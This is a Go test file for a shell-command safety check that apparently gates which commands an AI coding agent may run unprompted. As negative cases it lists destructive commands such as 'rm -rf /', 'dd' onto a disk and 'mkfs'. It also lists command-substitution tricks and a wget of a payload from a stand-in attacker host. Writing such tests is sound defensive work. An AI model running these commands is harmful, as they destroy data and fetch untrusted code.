package permission

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/opencode-ai/toolgate/internal/tool"
)

func TestIsSafeBashCommand(t *testing.T) {
	ctx := MatchContext{CWD: "/project"}

	tests := []struct {
		name    string
		command string
		safe    bool
	}{
		{"ls", "ls -la", true},
		{"pwd", "pwd", true},
		{"cat", "cat main.go", true},
		{"grep pipeline", "cat main.go | grep TODO | wc -l", true},
		{"compound of safe parts", "ls && pwd; date", true},
		{"echo", "echo hello", true},
		{"which", "which go", true},
		{"env", "env", true},
		{"find", "find . -name '*.go'", true},
		{"find delete", "find . -name '*.tmp' -delete", false},
		{"find exec", "find . -name '*.go' -exec rm {} \\;", false},
		{"git status", "git status", true},
		{"git log", "git log --oneline", true},
		{"git diff", "git diff HEAD~1", true},
		{"git branch list", "git branch -a", true},
		{"git show", "git show abc123", true},
		{"git branch delete", "git branch -D feature", false},
		{"git push", "git push origin main", false},
		{"git commit", "git commit -m x", false},
		{"go version", "go version", true},
		{"go env", "go env GOPATH", true},
		{"npm ls", "npm ls", true},
		{"node version", "node --version", true},
		{"rm", "rm -rf /tmp/x", false},
		{"sudo", "sudo ls", false},
		{"su", "su root", false},
		{"dd", "dd if=/dev/zero of=/dev/sda", false},
		{"mkfs", "mkfs.ext4 /dev/sda1", false},
		{"chmod", "chmod 777 /etc/passwd", false},
		{"sed in place", "sed -i s/a/b/ file", false},
		{"output redirection", "echo hi > /etc/motd", false},
		{"append redirection", "ls >> log.txt", false},
		{"redirect inside pipeline", "cat a | sort > b", false},
		{"unsafe tail of compound", "ls && rm -rf /", false},
		{"unsafe head of compound", "rm x; ls", false},
		{"command substitution", "echo $(rm -rf /)", false},
		{"backticks", "echo `whoami`", false},
		{"empty command", "", false},
		{"unknown command", "frobnicate --all", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.safe, IsSafeBashCommand(tool.BashInput{Command: tt.command}, ctx))
		})
	}
}

func TestIsSafeBashCommand_Cd(t *testing.T) {
	tests := []struct {
		name    string
		command string
		cwd     string
		safe    bool
	}{
		{"cd within cwd", "cd sub && ls", "/project", true},
		{"cd absolute within cwd", "cd /project/sub && ls", "/project", true},
		{"cd up and back", "cd sub && cd .. && ls", "/project", true},
		{"cd escapes", "cd .. && ls", "/project", false},
		{"cd etc", "cd /etc && ls", "/project", false},
		{"cd home", "cd ~/code && ls", "/project", false},
		{"bare cd", "cd && ls", "/project", false},
		{"cd without cwd context", "cd sub && ls", "", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := IsSafeBashCommand(tool.BashInput{Command: tt.command}, MatchContext{CWD: tt.cwd})
			assert.Equal(t, tt.safe, got)
		})
	}
}

func TestIsSafeBashCommand_NetworkProbes(t *testing.T) {
	ctx := MatchContext{CWD: "/p"}

	tests := []struct {
		name    string
		command string
		safe    bool
	}{
		{"curl localhost", "curl http://localhost:8080/health", true},
		{"curl loopback ip", "curl http://127.0.0.1:3000/", true},
		{"curl schemeless localhost", "curl localhost:8080/ping", true},
		{"wget localhost", "wget http://localhost:9090/metrics", true},
		{"curl external", "curl https://example.com", false},
		{"curl output file", "curl -o dump http://localhost:8080/", false},
		{"curl no target", "curl", false},
		{"wget external", "wget https://evil.example/payload", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.safe, IsSafeBashCommand(tool.BashInput{Command: tt.command}, ctx))
		})
	}
}

func TestIsSafeBashCommand_MissingCommand(t *testing.T) {
	assert.False(t, IsSafeBashCommand(tool.BashInput{}, MatchContext{CWD: "/p"}))
}
